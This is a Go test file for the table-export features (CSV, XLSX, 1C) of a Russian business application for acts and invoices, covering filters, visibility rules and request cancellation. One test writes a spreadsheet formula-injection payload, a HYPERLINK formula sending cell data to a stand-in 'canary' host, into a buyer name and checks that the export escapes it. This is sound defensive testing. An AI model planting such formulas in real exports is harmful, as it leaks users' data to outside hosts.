package handlers_test

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/google/uuid"

	"acts24/cmd/app/apptest"
	"acts24/store/storetest"
)

// column returns a column of a table without its title.
func column(t *testing.T, rows [][]string, title string) (cells []string) {
	t.Helper()
	at := slices.Index(rows[0], title)
	if at < 0 {
		t.Fatalf("no column %q in %q", title, rows[0])
	}
	for _, r := range rows[1:] {
		cell := ""
		if at < len(r) {
			cell = r[at]
		}
		cells = append(cells, cell)
	}
	return cells
}

// An export contains exactly the acts of the filter, whatever page is open.
func TestExportIsTheList(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t, 1)
	s.HandOver(s.Deal(1))
	s.AddCopies(70)
	s.Exec(`UPDATE acts SET company_id = 777, buyer = jsonb_set(buyer, '{name}', '"=HYPERLINK(\"http://canary/?\"&A1)"') WHERE number LIKE 'К-1%'`)
	for _, query := range []string{"", "status=sent&status=refused", "q=К-1", "medium=paper", "responsible=" + fmt.Sprint(s.Portal.Manager())} {
		var want []string
		address := "/p/1/acts?" + query
		for pages := 0; address != ""; pages++ {
			p, err := s.Manager.Get(address)
			doc := s.Page(p, err, http.StatusOK)
			want = append(want, numbersOf(doc)...)
			address = apptest.TestID(doc, "next-page").AttrOr("href", "")
		}
		for _, format := range []string{"xlsx", "csv"} {
			rows, _ := s.DownloadTable("/p/1/acts/export?format=" + format + "&" + query)
			if got := column(t, rows, "Номер"); !slices.Equal(got, want) {
				t.Errorf("%s of %q has %d acts %q, want %d %q", format, query, len(got), got, len(want), want)
			}
		}
	}
	rows, name := s.DownloadTable("/p/1/companies/777/export?format=csv")
	if got := column(t, rows, "Контрагент"); len(got) != 11 || got[0] != `'=HYPERLINK("http://canary/?"&A1)` || !strings.HasPrefix(name, "Акты компании ") {
		t.Errorf("the table «%s» of a company has %q", name, got)
	}
	if rows, _ := s.DownloadTable("/p/1/contacts/88/export?format=xlsx"); len(rows) != 1 {
		t.Errorf("a contact without acts has a table of %d rows", len(rows))
	}
}

// The links of a list carry its filter, and the files contain the same values as the act's page.
func TestExportContainsAll(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t, 1)
	s.HandOver(s.Deal(1))
	doc := s.RegistryPage("medium=electronic")
	links := map[string]string{}
	for _, format := range []string{"xlsx", "csv", "1c"} {
		links[format] = apptest.TestID(doc, "export-"+format).AttrOr("href", "")
	}
	rows, name := s.DownloadTable(links["xlsx"])
	year, month, day := s.Today().Date()
	serial := fmt.Sprint(int(time.Date(year, month, day, 0, 0, 0, 0, time.UTC).Sub(time.Date(1899, 12, 30, 0, 0, 0, 0, time.UTC)).Hours() / 24))
	want := map[string]string{"Дата": serial, "Тип": "Электронный, юрлицо", "Статус": "Подготовка акта", "Контрагент": "ООО «Контрагент 1»",
		"ИНН": apptest.CounterpartyOf(1).Organization.INN, "КПП": "780201001", "Сделка": "Продвижение продукции № 1", "Наша организация": apptest.Own.Name,
		"Сумма, ₽": "17800.00", "Без НДС, ₽": "15131.15", "НДС, ₽": "2668.85", "Подписан": ""}
	for title, cell := range want {
		if got := column(t, rows, title); len(got) != 1 || got[0] != cell {
			t.Errorf("%s: %q, want %q", title, got, cell)
		}
	}
	if link := column(t, rows, "Ссылка")[0]; !strings.HasPrefix(link, s.Portal.URL()+"/marketplace/view/") || !strings.HasSuffix(link, "params[actId]=1") {
		t.Errorf("the link to the act is %q", link)
	}
	if !strings.HasPrefix(name, "Акты ") || !strings.HasSuffix(name, ".xlsx") {
		t.Errorf("the file is called %q", name)
	}
	lines, _ := s.DownloadTable(links["1c"])
	for title, cells := range map[string][]string{"НомерСтроки": {"1", "2", "3"}, "Номенклатура": {"Участие в выставке", "Подготовка каталога", "Перевод материалов"},
		"Количество": {"1", "4", "2"}, "Цена": {"10000.00", "1200.00", "1500.00"}, "СтавкаНДС": {"22%", "22%", "Без НДС"}, "СуммаНДС": {"1803.28", "865.57", "0.00"},
		"Всего": {"10000.00", "4800.00", "3000.00"}, "КонтрагентИНН": slices.Repeat([]string{want["ИНН"]}, 3)} {
		if got := column(t, lines, title); !slices.Equal(got, cells) {
			t.Errorf("для 1С, %s: %q, want %q", title, got, cells)
		}
	}
	if apptest.TestID(s.RegistryPage("q=нет"), "exports").Length() != 0 {
		t.Error("an empty list offers an export")
	}
}

// What cannot be exported gives a message, and a visitor exports only what he may see.
func TestExportRefuses(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t, 2)
	s.HandOver(s.Deal(1))
	for query, words := range map[string]string{"format=doc": "Такой выгрузки нет", "": "Такой выгрузки нет", "format=csv&status=paid": "в условиях фильтра ошибка"} {
		p, err := s.Manager.Get("/p/1/acts/export?" + query)
		if doc := s.Page(p, err, http.StatusUnprocessableEntity); !strings.Contains(apptest.TestID(doc, "message").Text(), words) {
			t.Errorf("%q answers %q", query, apptest.TestID(doc, "message").Text())
		}
	}
	s.AddCopies(10)
	s.Exec(`INSERT INTO people (portal_id, user_id, visibility) VALUES (1, ` + fmt.Sprint(s.Portal.Manager()) + `, '{77}')`)
	s.Exec(`UPDATE acts SET responsible_id = 77 WHERE number IN ('К-1', 'К-7')`)
	if rows, _ := s.DownloadTable("/p/1/acts/export?format=csv"); !slices.Equal(column(t, rows, "Номер"), []string{"К-1", "К-7"}) {
		t.Errorf("a user who sees two acts exports %q", rows[1:])
	}
}

// When the browser disconnects, the query in the database is cancelled.
func TestExportStopsWithItsVisitor(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t, 1)
	s.HandOver(s.Deal(1))
	s.Await("the jobs have nothing to do", func() bool { return s.Count(`tasks WHERE due_at < clock_timestamp() + interval '1 minute'`) == 0 })
	unlock := lock(s, `LOCK TABLE act_lines IN ACCESS EXCLUSIVE MODE`) // idle jobs read reminders and deals, not lines
	defer unlock()
	ctx, leave := context.WithCancel(t.Context())
	r, err := http.NewRequestWithContext(ctx, http.MethodGet, s.AppURL+"/p/1/acts/export?format=1c", nil)
	if err != nil {
		t.Fatal(err)
	}
	r.Header.Set("Cookie", s.Manager.Cookies("/"))
	done := make(chan error, 1)
	go func() {
		answer, err := http.DefaultClient.Do(r)
		if err == nil {
			answer.Body.Close()
		}
		done <- err
	}()
	s.Await("the export queries the database", func() bool { return exporting(s) == 1 })
	leave()
	if err := <-done; err == nil {
		t.Error("the visitor got an answer")
	}
	s.Await("the database is asked no more", func() bool { return exporting(s) == 0 })
}

// exporting counts the exports of acts with their lines that wait for a lock. Only a superuser sees the statements of others.
func exporting(s *apptest.Site) (n int) {
	s.T.Helper()
	db := storetest.Connect(s.T, storetest.Superuser(s.T))
	defer db.Close()
	err := db.QueryRow(`SELECT count(*) FROM pg_stat_activity WHERE datname = $1 AND wait_event_type = 'Lock' AND query LIKE '%FROM act_lines l%'`, s.Database()).Scan(&n)
	if err != nil {
		s.T.Fatal(err)
	}
	return n
}

// lock holds a database lock until unlock is called.
func lock(s *apptest.Site, statement string) (unlock func()) {
	s.T.Helper()
	tx, err := s.Owner().Begin()
	if err == nil {
		_, err = tx.Exec(statement)
	}
	if err != nil {
		s.T.Fatal(err)
	}
	return func() { tx.Rollback() }
}

// numbersOf returns the numbers on a page of acts.
func numbersOf(doc *goquery.Document) (numbers []string) {
	doc.Find("table.registry tbody tr td:first-child a").Each(func(_ int, a *goquery.Selection) {
		numbers = append(numbers, strings.TrimPrefix(a.Text(), "Без номера"))
	})
	return numbers
}

// Only the selected acts are exported, after a page that shows what the export will contain; acts hidden
// meanwhile are left out.
func TestExportOfChosenActs(t *testing.T) {
	t.Parallel()
	s := apptest.Start(t, 1)
	s.HandOver(s.Deal(1))
	s.AddCopies(40)
	path, doc := s.StartBulk(s.BulkForm("table", "3", "9", "21"))
	if apptest.BulkText(doc) != "Войдут в таблицу: 3, не войдут: 0." || apptest.TestID(doc, "bulk-run").Length() != 0 {
		t.Errorf("the preview shows %q", apptest.BulkText(doc))
	}
	rows, name := s.DownloadTable(apptest.TestID(doc, "bulk-file").AttrOr("href", ""))
	if got := column(t, rows, "Номер"); !slices.Equal(got, []string{"К-2", "К-8", "К-20"}) || !strings.HasPrefix(name, "Выбранные акты ") {
		t.Errorf("the table «%s» has %q", name, got)
	}
	filter := url.Values{"key": {uuid.NewString()}, "action": {"table"}, "all": {"1"}, "filter": {"status=sent"}}
	all, doc := s.StartBulk(filter)
	if rows, _ = s.DownloadTable(all + "/file"); len(rows) != 7 {
		t.Errorf("the table of a filter has %d rows: %s", len(rows)-1, apptest.BulkText(doc))
	}
	s.Exec(fmt.Sprintf(`INSERT INTO people VALUES (1, %d, '{}')`, s.Portal.Manager()))
	if rows, _ = s.DownloadTable(path + "/file"); len(rows) != 1 {
		t.Errorf("he may see none of them and gets %d", len(rows)-1)
	}
}
